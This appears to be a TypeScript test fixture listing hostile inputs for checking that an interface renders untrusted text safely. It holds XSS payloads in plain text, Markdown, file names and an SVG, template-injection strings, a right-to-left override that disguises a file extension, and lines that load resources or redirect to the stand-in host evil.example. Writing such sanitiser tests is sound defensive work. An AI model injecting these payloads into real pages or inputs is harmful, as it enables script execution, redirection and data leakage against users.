// Contents that attack whoever looks at them. Each calls `pwned`, which the watcher reports, or loads
// something from elsewhere, which the watcher reports too.

export const EVIL = 'https://evil.example';

const LONG_WORD = 'W'.repeat(10_000);
/** Turns the order of the characters behind it around. */
const RIGHT_TO_LEFT = '\u202e';

/** Texts in any field. */
export const TEXTS = [
  `<script>pwned('script')</script>`,
  `<img src=x onerror="pwned('img')">`,
  `<svg onload="pwned('svg')"><script>pwned('svg script')</script></svg>`,
  `"><iframe srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>`,
  `</textarea></title></style><script>pwned('closed')</script>`,
  `<a href="javascript:pwned('link')" onmouseover="pwned('over')">look</a>`,
  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<style>@import '${EVIL}/style.css'; * { display: none !important }</style>`,
  `{{constructor.constructor('pwned("template")')()}} \${pwned('template')}`,
  `invoice${RIGHT_TO_LEFT}fdp.exe \u2066\u200b\u0000 end`.replace('\u0000', ''),
];

/** Short ones, for fields with a limit of their own. */
export const SHORT = `<img src=x onerror=pwned(1)>${RIGHT_TO_LEFT}`;

/** An answer in Markdown. */
export const MARKDOWN = [
  `[click me](javascript:pwned('markdown'))`,
  `[data](data:text/html,<script>parent.pwned('data')</script>) and [vb](vbscript:pwned)`,
  `![pixel](${EVIL}/pixel.png) ![inline](javascript:pwned('picture')) ![svg](data:image/svg+xml,<svg/onload=pwned(2)>)`,
  `<javascript:pwned('autolink')> <${EVIL}/auto> ${EVIL}/bare`,
  `[reference][1] ![reference][1]\n\n[1]: javascript:pwned('reference) "<script>pwned('title')</script>"`,
  '```html"><script>pwned("language")</script>\n<script>pwned("code")</script>\n```',
  '`<script>pwned("inline code")</script>`',
  `| <img src=x onerror=pwned('cell')> | b |\n|---|---|\n| <script>pwned('td')</script> | ${LONG_WORD.slice(0, 500)} |`,
  `<form action="${EVIL}/"><button>Send</button></form><object data="${EVIL}/x"></object><embed src="${EVIL}/y">`,
  `[ok](https://example.com/path "title") <mailto:anna@example.com>`,
  ...TEXTS,
  LONG_WORD,
].join('\n\n');

/** Names of files; a path of an agent's folder has no control characters. */
export const FILE_NAMES = [`<img src=x onerror=pwned('file')>.md`, `"><script>pwned('file')<-script>.txt`, `notes'onclick='pwned(3).html`];

export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned('svg file')"><script>parent.pwned('svg file')</script><image href="${EVIL}/i.png"/></svg>`;
